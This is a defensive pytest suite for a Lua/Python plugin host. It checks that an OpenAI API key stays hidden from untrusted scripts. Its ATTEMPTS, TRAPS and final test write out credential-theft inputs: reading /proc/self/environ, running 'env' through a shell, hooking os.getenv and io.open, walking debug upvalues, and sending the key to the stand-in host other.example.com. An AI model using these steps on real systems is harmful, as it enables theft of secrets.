"""The key: where it comes from, who holds it, and that no script and no output gets at it."""

from __future__ import annotations

import base64
import json
import sys
from pathlib import Path
from urllib.parse import quote

import pytest

from postlude import Host, open_document
from tests.frontdoor import PARTS, Door
from tests.https.server import Server

KEY = "sk-proj-Zq8wR2tYpL0vNx+4mK7sJd9fGhC3a/5u"
"""Its ``+`` and ``/`` look otherwise in a URL and in some JSON."""

HTTPS = "finaleplugin.ExecuteHttpsCalls = true"


def forms(key: str = KEY) -> list[str]:
    """The key as it must not be seen anywhere: plain, reversed to catch tricks, and encoded."""
    return [
        key, quote(key, safe=""), base64.b64encode(key.encode()).decode(), key.replace("/", "\\/"),
        base64.urlsafe_b64encode(key.encode()).decode(), "".join(f"%{ord(c):02X}" for c in key),
    ]  # fmt: skip


def assert_hidden(text: str) -> None:
    for form in forms():
        assert form not in text
    assert KEY[8:24] not in text


@pytest.fixture
def prefix(door: Door) -> Path:
    return door.file("pre/prefix.lua", f'openai_api_key = "{KEY}"\n')


def test_an_untrusted_script_holds_a_placeholder_of_the_same_shape(door: Door, prefix: Path) -> None:
    source = "print(#openai_api_key, openai_api_key:sub(1, 8), openai_api_key)"
    done = door.run(source, "--prefix", prefix)
    length, start, value = done.out.split()
    assert (int(length), start) == (len(KEY), "sk-proj-")
    assert len(value) == len(KEY)
    assert value != KEY
    assert_hidden(done.out + done.err)


def test_the_environment_s_key_comes_through_the_shipped_system_prefix(door: Door) -> None:
    source = "print(openai_api_key ~= nil, openai_api_key, os.getenv('OPENAI_API_KEY'))"
    assert door.run(source).out.split() == ["false", "nil", "nil"]
    door.monkeypatch.setenv("OPENAI_API_KEY", KEY)
    there, value, environment = door.run(source).out.split()
    assert (there, environment) == ("true", "nil")
    assert (len(value), value == KEY) == (len(KEY), False)
    assert door.run(source, "--no-system-prefix").out.split() == ["false", "nil", "nil"]


@pytest.mark.parametrize("trusted", [True, False])
def test_a_trusted_script_and_a_python_plugin_hold_the_key_itself(
    door: Door, prefix: Path, trusted: bool
) -> None:
    door.file("expected.txt", KEY)
    if trusted:
        source = "print(openai_api_key == io.open('expected.txt'):read('a')) print(openai_api_key)"
        done = door.run(source, "--prefix", prefix, "--trust")
    else:
        source = (
            "from pathlib import Path\n"
            "def run(prefix):\n"
            "    key = prefix['openai_api_key']\n"
            "    print(str(key == Path('expected.txt').read_text('utf-8')).lower(), key, sep='\\n')\n"
        )
        done = door.run(source, "--prefix", prefix, suffix=".py")
    assert done.out == "true\n[redacted]\n"


def test_the_prefix_of_a_python_plugin_is_a_read_only_mapping_of_what_prefixes_set(door: Door) -> None:
    pre = door.file("pre.lua", "text, number, flag, list, map = 'a', 2, true, {1, {2}}, {x = 'y'} f = print")
    source = """
def run(prefix):
    try:
        prefix["text"] = "b"
    except TypeError:
        print("read-only")
    try:
        prefix["map"]["x"] = "z"
    except TypeError:
        print("deeply")
    return prefix["text"], prefix["number"], prefix["flag"], prefix["list"], dict(prefix["map"]), sorted(prefix)
"""
    result = door.run(source, "--prefix", pre, "--json", suffix=".py").json
    assert result["printed"] == "read-only\ndeeply\n"
    assert result["returned"] == [
        "a",
        2,
        True,
        [1, [2]],
        {"x": "y"},
        ["flag", "list", "map", "number", "text"],
    ]


PRINTING = [
    "print(key)", "io.write(key:sub(1, 9)) io.write(key:sub(10))", "io.stderr:write(key)", "error(key)",
    "return key", "return {[key] = {key}}", "finenv.UI():AlertInfo(key, key)", "finenv.UI():AlertYesNo('x' .. key, '')",
    "finenv.StartNewUndoBlock(key, true)", "pcall(io.open, '/' .. key)", "pcall(require, key)",
    "local function f() error('in ' .. key) end f()", "os.execute(key)", "warn('@on') warn(key)",
    "local t = setmetatable({}, {__tostring = function() return key end}) return function() end, t",
    "load('error(' .. ('%q'):format(key) .. ')', '=' .. key)()", "print((key:gsub('/', '\\\\/')))",
    "print((key:gsub('%W', function(c) return ('%%%02X'):format(c:byte()) end)))",
]  # fmt: skip


@pytest.mark.parametrize("source", PRINTING)
@pytest.mark.parametrize("options", [[], ["--json"]])
def test_who_holds_the_key_cannot_make_the_host_write_it(
    door: Door, prefix: Path, source: str, options: list[str]
) -> None:
    done = door.run(
        "local key = openai_api_key\n" + source, "--prefix", prefix, "--trust", "--diff", *options
    )
    assert_hidden(done.out)
    assert_hidden(done.err)
    if options:
        assert_hidden(json.dumps(done.json))


def test_the_key_in_the_document_is_redacted_in_the_diff(door: Door, prefix: Path) -> None:
    source = """
        local definition = finale.FCTextExpressionDef()
        definition:Load(1)
        local text = definition:CreateTextString()
        text.LuaString = text.LuaString .. openai_api_key
        definition:SaveTextString(text)
        definition:SetDescription(openai_api_key)
        definition:Save()
    """
    score = door.score("e.enigmaxml", PARTS.with_name("expressions.enigmaxml"))
    for options in ([], ["--json"]):
        done = door.run(source, score, "--prefix", prefix, "--trust", "--diff", *options)
        assert done.status == 0
        assert done.out.count("[redacted]") == 2
        assert_hidden(done.out + done.err)


@pytest.mark.parametrize(
    "prefix_text",
    [
        "openai_api_key = '{k}' error(openai_api_key)", "openai_api_key = '{k}' print(openai_api_key)",
        "openai_api_key = '{k}' error({{}})", "openai_api_key = '{k}' .. nil", "openai_api_key = '{k}",
        "openai_api_key = {k}", "local k = '{k}' k.x.y = 1", "openai_api_key = '{k}' _G[openai_api_key]()",
        "openai_api_key = '{k}' require(openai_api_key)", "openai_api_key = '{k}' io.open(openai_api_key):read()",
        "openai_api_key = '{k}' finenv.UI():AlertInfo(openai_api_key, '') error('x')",
        "openai_api_key = os.getenv('OPENAI_API_KEY') error('x' .. openai_api_key)",
        "openai_api_key = '{k}' while true do end",
    ],
)  # fmt: skip
@pytest.mark.parametrize("options", [[], ["--json"]])
def test_an_error_in_a_prefix_shows_no_key(door: Door, prefix_text: str, options: list[str]) -> None:
    door.monkeypatch.setenv("OPENAI_API_KEY", KEY)
    file = door.file("pre.lua", prefix_text.format(k=KEY))
    done = door.run("print(1)", "--prefix", file, "--timeout", "0.2", *options)
    assert_hidden(done.out + done.err)


def test_a_short_key_draws_a_warning(door: Door) -> None:
    file = door.file("pre.lua", "openai_api_key = 'short'")
    assert "fewer than 8 characters" in door.run("print(1)", "--prefix", file).err


# ---- attempts to reach the key from an untrusted script


SEARCH = """
-- Looks for the key in everything that can be reached; prints where it found it.
local function hash(s) local h = 5381 for i = 1, #s do h = (h * 33 + s:byte(i)) & 0xFFFFFFFF end return h end
local LENGTH, HASH, find = {length}, {hash}, string.find
local seen = {{}}
local function check(s)
    local at = find(s, "sk-proj-", 1, true) -- all that a key and its placeholder have in common
    while at do
        if hash(s:sub(at, at + LENGTH - 1)) == HASH then print("FOUND") return end
        at = find(s, "sk-proj-", at + 1, true)
    end
end
local function look(value, depth)
    local kind = type(value)
    if kind == "string" then check(value) return end
    if kind ~= "table" and kind ~= "function" and kind ~= "userdata" and kind ~= "thread" then return end
    if seen[value] then return end
    seen[value] = true
    local mt = debug.getmetatable(value)
    if type(mt) == "table" then look(mt) end
    if kind == "table" then
        for k, v in next, value do look(k) look(v) end
    elseif kind == "function" then
        for i = 1, 255 do
            local ok, name, v = pcall(debug.getupvalue, value, i)
            if not ok or not name then break end
            look(v)
        end
        local ok, code = pcall(string.dump, value)
        if ok then check(code) end
    elseif kind == "thread" then
        for level = 0, 20 do
            for i = 1, 50 do
                local ok, name, v = pcall(debug.getlocal, value, level, i)
                if not ok or not name then break end
                look(v)
            end
        end
    end
end
{before}
look(_G) look(package) look("") look(0) look(print) look(coroutine.running())
local ok, registry = pcall(debug.getregistry) if ok then look(registry) end
for level = 0, 30 do
    local ok, info = pcall(debug.getinfo, level, "f")
    if ok and info then look(info.func) end
    for i = 1, 50 do
        local ok, name, v = pcall(debug.getlocal, level, i)
        if not ok or not name then break end
        look(v)
    end
end
{after}
print("searched", openai_api_key ~= nil)
"""


def _hash(text: str) -> int:
    value = 5381
    for byte in text.encode():
        value = (value * 33 + byte) & 0xFFFFFFFF
    return value


def search(before: str = "", after: str = "", secret: str = KEY) -> str:
    return SEARCH.format(length=len(secret), hash=_hash(secret), before=before, after=after)


LEFT_BEHIND = {
    "another global": "copy = openai_api_key",
    "part of a global": "header = 'Bearer ' .. openai_api_key",
    "a table": "config = {key = openai_api_key, {openai_api_key}}",
    "a table's key": "config = {[openai_api_key] = true}",
    "a metatable": "config = setmetatable({}, {__index = {key = openai_api_key}})",
    "the metatable of strings": "getmetatable('').secret = openai_api_key",
    "a loaded module": "package.loaded.secret = {openai_api_key}",
    "a preload function": "local k = openai_api_key package.preload.secret = function() return k end",
    "an upvalue": "local k = openai_api_key function give() return k end",
    "an upvalue's table": "local k = {openai_api_key} function give() return k end",
    "a searcher": "local k = openai_api_key table.insert(package.searchers, function() return k end)",
    "package.path": "package.path = package.path .. ';/' .. openai_api_key .. '/?.lua'",
    "a library": "string.secret = openai_api_key",
    "a finalizer": "local k = openai_api_key "
    "gone = setmetatable({}, {__gc = function() (log or print)('FINALIZED ' .. k) end}) gone = nil",
    "another name from the environment": "openai_api_key = nil mine = os.getenv('OPENAI_API_KEY')",
    "a weak table": "cache = setmetatable({}, {__mode = 'kv'}) cache[1] = {openai_api_key}",
    "nothing": "",
}


@pytest.mark.parametrize("where", LEFT_BEHIND)
def test_the_key_is_taken_out_of_what_prefixes_leave_behind(door: Door, where: str) -> None:
    door.monkeypatch.setenv("OPENAI_API_KEY", KEY)
    file = door.file("pre/prefix.lua", f"openai_api_key = '{KEY}' {LEFT_BEHIND[where]}")
    after = """
        function log(...) print("TRAPPED", ...) end
        if give then look(give()) end
        if pcall(require, "secret") then look(require "secret") end
        collectgarbage() collectgarbage()
    """
    done = door.run(search(after=after), "--prefix", file)
    assert done.status == 0, done.err
    assert "FOUND" not in done.out
    assert "TRAPPED" not in done.out
    assert "searched" in done.out
    assert_hidden(done.out + done.err)


REFUSED_LEFT_BEHIND = {
    "in a function's text": "function give() return '{k}' end",
    "in a function within one": "function give() return function() return '{k}' end end",
    "in a coroutine": "co = coroutine.wrap(function() local k = openai_api_key coroutine.yield() return k end) co()",
    "in a new coroutine": "local k = openai_api_key co = coroutine.create(function() return k end)",
    "in an iterator of the library": "letters = openai_api_key:gmatch('.')",
    "in an object of finale": "s = finale.FCString() s.LuaString = openai_api_key",
    "in a collection": "s = finale.FCStrings() s:AddCopy(finale.FCString(openai_api_key))",
}


@pytest.mark.parametrize("where", REFUSED_LEFT_BEHIND)
def test_a_prefix_that_leaves_the_key_where_it_cannot_be_replaced_is_an_error(door: Door, where: str) -> None:
    text = f"openai_api_key = '{KEY}' " + REFUSED_LEFT_BEHIND[where].format(k=KEY)
    file = door.file("pre/prefix.lua", text)
    done = door.run("print(1)", "--prefix", file, "--json")
    assert (done.status, done.json["printed"]) == (1, "")
    assert str(file) in done.json["message"]
    assert "a script could reach the key" in done.json["message"]
    assert door.run("print(1)", "--prefix", file, "--trust").status == 0


ATTEMPTS = {
    "the environment": "return os.getenv('OPENAI_API_KEY')",
    "the environment, otherwise written": "return os.getenv('openai_api_key'), os.getenv('OPENAI_API_KEY\\0')",
    "the process's environment": "return io.open('/proc/self/environ', 'rb'):read('a')",
    "its own process's environment by lines": "local t = {} "
    "for l in io.lines('/proc/self/environ') do t[#t+1] = l end return t",
    "the prefix file": "return io.open([[{prefix}]]):read('a')",
    "the prefix file by loadfile": "return string.dump(loadfile([[{prefix}]]))",
    "the prefix file by dofile": "dofile([[{prefix}]]) return openai_api_key",
    "the prefix file by require": "package.path = [[{folder}/?.lua]] require('prefix') return openai_api_key",
    "the prefix file through a link": "return io.open('link.lua'):read('a')",
    "the registry": "return debug.getregistry()",
    "hooks": "debug.sethook(function() end, 'l')",
    "the stack": "local t = {} for i = 0, 20 do t[#t+1] = debug.getinfo(i) end return t",
    "a traceback": "return debug.traceback()",
    "locals of the caller": "local t = {} for i = 1, 20 do for j = 1, 20 do "
    "local ok, n, v = pcall(debug.getlocal, i, j) "
    "if ok then t[#t+1] = v end end end return t",
    "upvalues of host functions": "local t = {} for _, f in pairs(finenv) do for i = 1, 20 do t[#t+1] = "
    "type(f) == 'function' and select(2, debug.getupvalue(f, i)) or nil end end return t",
    "upvalues of require": "return debug.getupvalue(require, 1), debug.getupvalue(require, 2)",
    "joining upvalues": "local x local function f() return x end debug.upvaluejoin(f, 1, require, 1) return f()",
    "user values": "return debug.getuservalue(finenv.UI(), 1)",
    "the metatable of globals": "return getmetatable(_G), rawget(_G, 'openai_api_key')",
    "a trap for the assignment": "openai_api_key = nil setmetatable(_G, {__newindex = function(t, k, v) print(k, v) "
    "end}) return openai_api_key",
    "a shell": "return io.popen('env'):read('a')",
    "os.execute": "return os.execute('env')",
    "process.execute": "return require('luaosutils').process.execute('env')",
    "a C library": "return package.loadlib('libc.so.6', 'getenv')",
    "python": "return python, package.loaded.python, require('python')",
    "bytecode": "return load('\\27Lua' .. ('x'):rep(100))()",
    "the garbage": "collectgarbage() local t = {} for i = 1, 1000 do t[i] = ('x'):rep(i) end "
    "return collectgarbage('count')",
    "the intern table": "local t = setmetatable({}, {__mode = 'k'}) "
    "t[openai_api_key] = 1 collectgarbage() return next(t)",
    "coroutines": "return coroutine.wrap(function() return debug.getinfo(1), openai_api_key end)()",
    "an error message of another prefix": "return select(2, pcall(load('openai_api_key()')))",
    "the message of a missing key": "return select(2, pcall(function() return openai_api_key.x.y end))",
    "plugindef's text": "return finenv.GetPluginDefFunction()",
    "its own source": "return io.open(finenv.RunningLuaFilePath()):read('a')",
    "the configuration": "return io.open([[{config}/system.lua]]):read('a')",
    "the configuration by lfs": "local t = {} for n in require('lfs').dir([[{config}]]) do t[#t+1] = n end return t",
    "a temporary file": "local n = os.tmpname() return n, io.open(n, 'w')",
    "the class tables": "return finale.FCString.__class, finale.FCString.__propget",
    "os.rename of the prefix": "return os.rename([[{prefix}]], 'mine.txt'), io.open('mine.txt')",
}  # fmt: skip


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_an_untrusted_script_does_not_reach_the_key(door: Door, prefix: Path, attempt: str) -> None:
    """The search compares hashes, so that redaction can't hide a success."""
    door.monkeypatch.setenv("OPENAI_API_KEY", KEY)
    door.file("../config/system.lua", "openai_api_key = os.getenv('OPENAI_API_KEY')")
    (door.folder / "link.lua").symlink_to(prefix)
    code = ATTEMPTS[attempt]
    for name, path in (("{prefix}", prefix), ("{folder}", prefix.parent), ("{config}", door.config)):
        code = code.replace(name, str(path))
    after = f"look(table.pack(pcall(function() {code} end)))"
    done = door.run(search(after=after, before="local _ENV = _G"), "--prefix", prefix, "--json")
    result = done.json
    assert done.status == 0, result["message"]
    assert "FOUND" not in result["printed"]
    assert "searched\ttrue" in result["printed"] or "trap" in attempt
    assert_hidden(done.out)
    assert prefix.read_text(encoding="utf-8") == f'openai_api_key = "{KEY}"\n'


def test_the_search_finds_a_key_that_is_there(door: Door, prefix: Path) -> None:
    assert "FOUND" in door.run(search(), "--prefix", prefix, "--trust").out


TRAPS = {
    "another os.getenv": "local real = os.getenv os.getenv = function(n) got = real(n) return got end",
    "a metatable of _G": "openai_api_key = nil setmetatable(_G, {__newindex = function(t, k, v) "
    "rawset(t, 'got', v) rawset(t, k, v) end})",
    "another io.open": "local real = io.open io.open = function(...) local f = real(...) "
    "got = f:read('a') return f end",
    "another string function": "string.gsub = function(s) got = s return s end",
    "the metatable of strings": "getmetatable('').__index = function(s, k) got = s return string[k] end",
    "another print": "print = function(s) got = s end",
    "another finenv": "finenv = setmetatable({}, {__index = function(_, k) got = debug.getlocal(2, 1) end})",
}


@pytest.mark.parametrize("trap", TRAPS)
def test_a_retained_state_cannot_trap_the_prefixes_of_the_next_invocation(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, trap: str
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    prefix = tmp_path / "prefixes" / "prefix.lua"
    prefix.parent.mkdir()
    (prefix.parent / "key.txt").write_text(KEY, encoding="utf-8")
    prefix.write_text(
        f"""
        openai_api_key = os.getenv("OPENAI_API_KEY")
        local f = io.open([[{prefix.parent / "key.txt"}]]) openai_api_key = f:read("a") f:close()
        openai_api_key = openai_api_key:gsub("x", "x")
        print(openai_api_key)
        local _ = finenv.UI
        """,
        encoding="utf-8",
    )
    script = tmp_path / "plugin.lua"
    script.write_text(
        f"""
        finenv.RetainLuaState = true
        count = (rawget(_G, "count") or 0) + 1
        if count == 1 then {TRAPS[trap]} return end
        return rawget(_G, "got") == nil and "nothing" or tostring(got), #openai_api_key, count
        """,
        encoding="utf-8",
    )
    with Host(data_dir=tmp_path / "data", config_dir=tmp_path / "config") as host:
        score = open_document(PARTS)
        assert host.run(script, score, prefix=prefix).ok
        result = host.run(script, score, prefix=prefix)
    assert result.ok, result.message
    got, length, count = result.returned
    assert (length, count) == (len(KEY), 2)
    assert KEY not in got
    assert "redacted" not in got  # the key was there, and hidden only from us


def test_a_person_asked_on_the_terminal_is_shown_no_key(door: Door, prefix: Path) -> None:
    import io

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    door.monkeypatch.setattr(sys, "stdin", Terminal("y\n"))
    door.monkeypatch.setattr(sys.stderr, "isatty", lambda: True, raising=False)
    done = door.run(
        "finenv.UI():AlertYesNo(openai_api_key, openai_api_key)",
        "--prefix",
        prefix,
        "--trust",
        "--dialogs",
        "ask",
    )
    assert "[yes/no]" in done.err
    assert_hidden(done.err + done.out)


def test_a_retained_state_cannot_turn_the_key_to_another_server(
    tmp_path: Path, prefix: Path, https_server: Server
) -> None:
    script = tmp_path / "plugin.lua"
    script.write_text(
        """
        function plugindef()
            finaleplugin.ExecuteHttpsCalls, finaleplugin.RequireDocument = true, false
            return "Turn"
        end
        finenv.RetainLuaState = true
        count = (count or 0) + 1
        if count == 1 then
            openai_base_url = "https://other.example.com"
            return
        end
        local headers = {Authorization = "Bearer " .. openai_api_key}
        require("luaosutils").internet.get_sync("https://other.example.com/echo", 5, headers)
        """,
        encoding="utf-8",
    )
    network = {"resolve": https_server.resolve(), "ca_file": https_server.ca_file}
    with Host(data_dir=tmp_path / "data", config_dir=tmp_path / "config") as host:
        assert host.run(script, prefix=prefix, **network).ok
        result = host.run(script, prefix=prefix, **network)
    assert result.exit_status == 4
    assert "openai_api_key is not for other.example.com" in result.message
    assert https_server.seen == []
